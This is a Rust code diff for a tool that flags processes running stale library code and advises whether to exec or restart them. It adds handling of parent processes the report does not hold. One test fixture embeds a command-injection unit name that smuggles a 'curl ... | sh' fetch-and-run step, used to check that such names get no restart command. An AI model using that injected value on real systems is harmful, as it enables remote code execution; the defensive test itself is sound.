@@ -42,12 +42,34 @@ pub fn service_in(cgroup: &str) -> Option<(String, Option<u32>)> {
     Some((unit.to_string(), user))
 }
 
+/// A flagged process's parent that the report does not hold: not asked
+/// for (`--pid`, `--user`, `--match`), clean, or unreadable.
+pub enum Parent {
+    /// It runs stale code too (read for the plan only).
+    Stale(Box<StaleProcess>),
+    Clean,
+    /// It could not be read; its command name (which `/proc/PID/stat`
+    /// gives anyone).
+    Unread(String),
+}
+
+/// The parents the report does not hold, by pid.
+pub type Parents = HashMap<i32, Parent>;
+
 /// Fills in each process's restart advice: a process whose parent runs the
 /// same stale code was forked from it, and restarting it by another fork
 /// would copy that code again (L04, U07): the parent (the top of such a
-/// chain) needs an exec or a full restart.
-pub fn advise(procs: &mut [StaleProcess]) {
-    let index: HashMap<i32, usize> = procs.iter().enumerate().map(|(i, p)| (p.pid, i)).collect();
+/// chain) needs an exec or a full restart. The chain goes on through the
+/// `parents` the report does not hold; where it meets one that could not
+/// be read and has the process's own name, a fork from it may copy the
+/// same code, and the advice says that it cannot tell.
+pub fn advise(procs: &mut [StaleProcess], parents: &Parents) {
+    let outside = parents.iter().filter_map(|(&pid, p)| match p {
+        Parent::Stale(s) => Some((pid, &**s)),
+        _ => None,
+    });
+    let index: HashMap<i32, &StaleProcess> =
+        procs.iter().map(|p| (p.pid, p)).chain(outside).collect();
     // A fork keeps the parent's program and its layout: the same
     // executable, each shared stale file at the same address. A child that
     // exec'd (a shell's command, a daemon started by systemd) maps the same
@@ -72,23 +94,34 @@ pub fn advise(procs: &mut [StaleProcess]) {
     for p in procs.iter() {
         let mut top = p.pid;
         let mut cur = p;
-        let mut guard = 0;
-        while let Some(&i) = index.get(&cur.ppid) {
-            let parent = &procs[i];
-            if cur.need != Urgency::Required || !inherits(cur, parent) || guard > 64 {
+        let mut unread = None;
+        for _ in 0..64 {
+            if cur.need != Urgency::Required {
                 break;
             }
-            top = parent.pid;
-            cur = parent;
-            guard += 1;
+            match index.get(&cur.ppid) {
+                Some(parent) if inherits(cur, parent) => {
+                    top = parent.pid;
+                    cur = parent;
+                }
+                Some(_) => break,
+                None => {
+                    if matches!(parents.get(&cur.ppid), Some(Parent::Unread(c)) if *c == cur.command)
+                    {
+                        unread = Some(cur.ppid);
+                    }
+                    break;
+                }
+            }
         }
-        tops.push(top);
+        tops.push((top, unread));
     }
-    for (p, top) in procs.iter_mut().zip(tops) {
+    for (p, (top, unread)) in procs.iter_mut().zip(tops) {
         p.restart = Restart {
             at: top,
-            fork_is_enough: p.need == Urgency::Optional || top == p.pid,
+            fork_is_enough: p.need == Urgency::Optional || (top == p.pid && unread.is_none()),
             advice: String::new(),
+            parent_unread: unread,
         };
         p.restart.advice = advice(p, &PLAIN);
     }
@@ -100,7 +133,13 @@ const OPTIONAL: &str = "the files on disk have the same content";
 pub fn advice(p: &StaleProcess, marks: &Marks) -> String {
     match p.need {
         Urgency::Optional => OPTIONAL.to_string(),
-        Urgency::Required if p.restart.at == p.pid => "exec it again or restart it".to_string(),
+        Urgency::Required if p.restart.at == p.pid => match p.restart.parent_unread {
+            None => "exec it again or restart it".to_string(),
+            Some(parent) => format!(
+                "exec it again or restart it; its parent {} has its name and could not be read: whether a fork from it copies the same old code cannot be told",
+                (marks.pid)(parent)
+            ),
+        },
         Urgency::Required => format!(
             "exec or restart {}, which runs the same old code: a fork from it copies that code, so restarting only this process is not enough",
             (marks.pid)(p.restart.at)
@@ -114,8 +153,18 @@ pub fn advice(p: &StaleProcess, marks: &Marks) -> String {
 /// (its cgroup) never offered: restarting it would end the scan's own session (a CI
 /// runner, a terminal's service), so its processes are grouped by tree.
 /// Groups that need a restart come first.
-pub fn groups(procs: &[StaleProcess], systemd: bool, own: Option<&str>) -> Vec<Group> {
-    let by_pid: HashMap<i32, &StaleProcess> = procs.iter().map(|p| (p.pid, p)).collect();
+pub fn groups(
+    procs: &[StaleProcess],
+    parents: &Parents,
+    systemd: bool,
+    own: Option<&str>,
+) -> Vec<Group> {
+    let outside = parents.iter().filter_map(|(&pid, p)| match p {
+        Parent::Stale(s) => Some((pid, &**s)),
+        _ => None,
+    });
+    let by_pid: HashMap<i32, &StaleProcess> =
+        procs.iter().map(|p| (p.pid, p)).chain(outside).collect();
     let mut keyed: BTreeMap<(GroupKind, String), Vec<&StaleProcess>> = BTreeMap::new();
     for p in procs {
         keyed.entry(key(p, systemd, own)).or_default().push(p);
@@ -314,6 +363,7 @@ mod tests {
                 at: pid,
                 fork_is_enough: false,
                 advice: String::new(),
+                parent_unread: None,
             },
             files: vec![StaleFile {
                 path: "/usr/lib/libssl.so.3".into(),
@@ -331,6 +381,7 @@ mod tests {
                 detail: String::new(),
                 package: None,
                 path_in_maps: None,
+                identity: crate::detector::report::Identity::Stat,
                 address: 0x7f00_0000,
             }],
         }
@@ -371,8 +422,8 @@ mod tests {
             ),
             flagged(30, 1, "/user.slice/user-1000.slice/session-3.scope", 7),
         ];
-        advise(&mut procs);
-        let g = groups(&procs, true, None);
+        advise(&mut procs, &Parents::new());
+        let g = groups(&procs, &Parents::new(), true, None);
         assert_eq!(g.len(), 3, "{g:#?}");
         let nginx = g.iter().find(|g| g.name == "nginx.service").unwrap();
         assert_eq!(nginx.kind, GroupKind::Service);
@@ -398,6 +449,7 @@ mod tests {
         // Unless the scan runs in that session: then the tree.
         let g = groups(
             &procs,
+            &Parents::new(),
             true,
             Some("/user.slice/user-1000.slice/session-3.scope"),
         );
@@ -405,9 +457,14 @@ mod tests {
             .iter()
             .any(|g| g.kind == GroupKind::ProcessTree && g.pids == vec![30]));
         // Without systemd, or inside the same service, the trees count.
-        let g = groups(&procs, false, None);
+        let g = groups(&procs, &Parents::new(), false, None);
         assert!(g.iter().all(|g| g.kind == GroupKind::ProcessTree), "{g:#?}");
-        let g = groups(&procs, true, Some("/system.slice/nginx.service"));
+        let g = groups(
+            &procs,
+            &Parents::new(),
+            true,
+            Some("/system.slice/nginx.service"),
+        );
         assert!(g
             .iter()
             .any(|g| g.kind == GroupKind::ProcessTree && g.pids == vec![10, 11]));
@@ -426,7 +483,7 @@ mod tests {
         relaid.files[0].address = 0x7f10_0000;
         let forked = flagged(13, 10, "/", 7);
         let mut procs = vec![master, exec_d, relaid, forked];
-        advise(&mut procs);
+        advise(&mut procs, &Parents::new());
         let at: Vec<(i32, i32)> = procs.iter().map(|p| (p.pid, p.restart.at)).collect();
         assert_eq!(at, vec![(10, 10), (11, 11), (12, 12), (13, 10)]);
         assert!(procs[1].restart.fork_is_enough && !procs[3].restart.fork_is_enough);
@@ -435,8 +492,8 @@ mod tests {
     #[test]
     fn a_unit_name_systemd_would_refuse_gets_no_command() {
         let mut procs = vec![flagged(10, 1, "/system.slice/x;curl${IFS}e|sh;.service", 7)];
-        advise(&mut procs);
-        let g = groups(&procs, true, None);
+        advise(&mut procs, &Parents::new());
+        let g = groups(&procs, &Parents::new(), true, None);
         assert_eq!(g[0].kind, GroupKind::Service);
         assert_eq!(g[0].command, None);
     }
